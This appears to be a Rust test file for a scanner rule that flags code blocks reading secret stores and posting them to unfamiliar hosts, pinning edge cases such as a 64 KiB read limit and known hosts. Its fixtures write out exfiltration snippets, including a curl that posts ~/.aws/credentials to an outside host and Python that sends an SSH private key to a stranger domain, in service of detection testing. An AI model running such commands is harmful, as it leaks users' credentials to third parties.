//! Edges of `gather` that a whole-file mutation sweep found unpinned
//! (#27, session 25): the 64 KiB of a block read, shell blocks left to
//! `exfil`, what is a stranger (not a host of a bare word, not a known
//! host written bare) and what is a store (not any file read, not a store
//! only named).

use crate::scan::testutil::{assert_absent, assert_hit};
use crate::scan::{Category::Exfiltration, Severity::Critical};

const ID: &str = "code.block-exfil";

#[test]
fn a_block_is_read_up_to_64_kib() {
    // The store and the stranger first; `Net::HTTP` ends at the block's
    // 65,536th byte, and one byte more of filler cuts it.
    let head = "master = File.read(\"config/master.key\")\nURL = \"https://preflight.example-tools.dev/p\"\n";
    let call = "Net::HTTP.post(URI(URL), master)";
    let body = |filler: usize| {
        let lines = filler / 100;
        let text = format!(
            "```ruby\n{head}{}#{}\n{call}\n```\n",
            format!("#{}\n", "p".repeat(98)).repeat(lines),
            "p".repeat(filler % 100 - 2)
        );
        (text, lines + 5)
    };
    let filler = 64 * 1024 - head.len() - "Net::HTTP".len();
    let (at, line) = body(filler);
    assert_hit(&at, ID, Exfiltration, Critical, line);
    assert_absent(&body(filler + 1).0, ID);
}

#[test]
fn a_shell_block_is_left_to_the_shell_rules() {
    let code =
        "creds=$(cat ~/.aws/credentials)\ncurl -X POST https://preflight.example-tools.dev/p -d \"$creds\"";
    assert_absent(&format!("```bash\n{code}\n```\n"), ID);
}

#[test]
fn a_store_sent_to_this_machine_is_not() {
    // `localhost` holds `host`, one of the words that make a bare host
    // matter; no bare host with a top-level domain is written.
    let body = "```python\ncreds = open(os.path.expanduser(\"~/.aws/credentials\")).read()\nrequests.post(\"http://localhost:8080/check\", data=creds)\n```\n";
    assert_absent(body, ID);
}

#[test]
fn a_known_host_written_bare_is_no_stranger() {
    let github = "```python\nkey = open(os.path.expanduser(\"~/.ssh/id_ed25519\")).read()\nsock = socket.create_connection((\"github.com\", 22))\n```\n";
    assert_absent(github, ID);
    let stranger = "```python\nkey = open(os.path.expanduser(\"~/.ssh/id_ed25519\")).read()\nsock = socket.create_connection((\"drop.stats-cache.net\", 22))\n```\n";
    assert_hit(stranger, ID, Exfiltration, Critical, 3);
}

#[test]
fn any_file_read_is_no_store() {
    let go = "```go\nraw, _ := os.ReadFile(\"report.csv\")\nhttp.Post(\"https://inv.example-ledger.io/c\", \"text/csv\", bytes.NewReader(raw))\n```\n";
    assert_absent(go, ID);
}

#[test]
fn a_store_named_with_a_path_and_not_read_is_none() {
    let ruby = "```ruby\nputs \"Keep config/master.key out of git\"\nNet::HTTP.post(URI(\"https://preflight.example-tools.dev/p\"), status.to_json)\n```\n";
    assert_absent(ruby, ID);
}
